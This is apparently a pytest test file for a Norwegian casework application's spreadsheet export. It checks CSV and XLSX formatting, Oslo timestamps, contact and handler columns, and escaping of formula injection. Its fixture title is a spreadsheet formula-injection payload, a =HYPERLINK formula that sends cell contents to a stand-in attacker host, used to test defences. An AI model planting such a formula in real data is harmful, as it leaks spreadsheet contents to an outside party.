"""The applications listing's spreadsheet export: XLSX first and CSV for Excel in
Norway (UTF-8 with BOM, semicolons, no cell Excel would run as a formula), times in
Norwegian time, and the contact person, the submitter and the case handler."""

import csv
import datetime
import io

import openpyxl
import pytest
from django.urls import reverse

from pilots.casework import assignment
from pilots.casework.export import formula_safe
from pilots.models import Application
from tests.factories.pilots import CLASS_6, staff, submitted_application
from tests.factories.portal import ApplicantFactory

LIST = reverse("pilot_applications:index")
HYPERLINK = '=HYPERLINK("https://angriper.example/?d="&A2,"Klikk her")'
# 23:59:59 on 30 September in Oslo (summer time) is 21:59:59 UTC.
SUBMITTED = datetime.datetime(2026, 9, 30, 21, 59, 59, tzinfo=datetime.UTC)


@pytest.fixture
def handler(db):
    return staff("Saksbehandler", first_name="Kari", last_name="Lie")


@pytest.fixture
def case(open_round, handler):
    submitter = ApplicantFactory(email="siri@utsira.example", first_name="Siri", last_name="Sender")
    application = submitted_application(
        round=open_round,
        municipalities=[CLASS_6],
        title=HYPERLINK,
        created_by=submitter,
        contact={"name": "Ola Kontakt", "email": "ola@utsira.example", "phone": "+47 22 24 70 01"},
        decision="selected",
        status="shortlisted",
    )
    Application.objects.filter(pk=application.pk).update(submitted_at=SUBMITTED, decision="selected")
    assignment.assign(application, handler, handler)
    return application


def body(response):
    return b"".join(response.streaming_content)


def test_csv_is_utf8_with_bom_semicolons_oslo_times_and_no_formulas(client, case, handler):
    client.force_login(handler)
    response = client.get(f"{LIST}?export=csv")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    raw = body(response)
    assert raw.startswith(b"\xef\xbb\xbf")
    text = raw.decode("utf-8")[1:]
    assert text.splitlines()[0].startswith("Referanse;Prosjekt;")
    row = next(csv.DictReader(io.StringIO(text), delimiter=";"))
    assert row["Referanse"] == case.reference
    assert row["Prosjekt"] == "'" + HYPERLINK  # shown as text, never run
    assert row["Forberedt vedtak"] == "Foreslått valgt"
    assert row["Sendt inn (norsk tid)"] == "30.09.2026 23:59:59"
    assert row["Kontaktperson"] == "Ola Kontakt"
    assert row["Kontaktpersonens e-post"] == "ola@utsira.example"
    assert row["Kontaktpersonens telefon"] == "'+47 22 24 70 01"
    assert row["Sendt inn av"] == "Siri Sender <siri@utsira.example>"
    assert row["Saksbehandler"] == "Kari Lie"
    for value in row.values():
        assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


def test_xlsx_has_text_not_formulas_and_oslo_times(client, case, handler):
    client.force_login(handler)
    response = client.get(f"{LIST}?export=xlsx")
    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    sheet = openpyxl.load_workbook(io.BytesIO(body(response))).active
    header = [cell.value for cell in sheet[1]]
    cells = dict(zip(header, sheet[2], strict=True))
    assert cells["Referanse"].value == case.reference
    assert cells["Prosjekt"].value == HYPERLINK
    assert cells["Prosjekt"].data_type == "s"  # a string cell, not a formula
    assert cells["Sendt inn (norsk tid)"].value == datetime.datetime(2026, 9, 30, 23, 59, 59)
    assert cells["Kontaktperson"].value == "Ola Kontakt"
    assert cells["Kontaktpersonens e-post"].value == "ola@utsira.example"
    assert cells["Kontaktpersonens telefon"].value == "+47 22 24 70 01"
    assert cells["Sendt inn av"].value == "Siri Sender <siri@utsira.example>"
    assert cells["Saksbehandler"].value == "Kari Lie"


def test_the_submitter_is_whoever_submitted(client, open_round, handler):
    application = submitted_application(round=open_round, municipalities=[CLASS_6])
    assert application.submitted_by == application.created_by
    other = ApplicantFactory(email="medskriver@utsira.example")
    Application.objects.filter(pk=application.pk).update(submitted_by=other)
    client.force_login(handler)
    row = next(csv.DictReader(io.StringIO(body(client.get(f"{LIST}?export=csv")).decode("utf-8-sig")), delimiter=";"))
    assert row["Sendt inn av"] == "medskriver@utsira.example"
    assert row["Saksbehandler"] == ""


def test_listing_offers_xlsx_before_csv(client, case, handler):
    client.force_login(handler)
    text = client.get(LIST).text
    assert "export=xlsx" in text and "export=csv" in text
    assert text.index("export=xlsx") < text.index("export=csv")


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+47 900 00 000", "'+47 900 00 000"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Fjellbygd = vekst", "Fjellbygd = vekst"),
        (1_500_000, 1_500_000),
        (-5, -5),
    ],
)
def test_formula_safe(value, written):
    assert formula_safe(value) == written
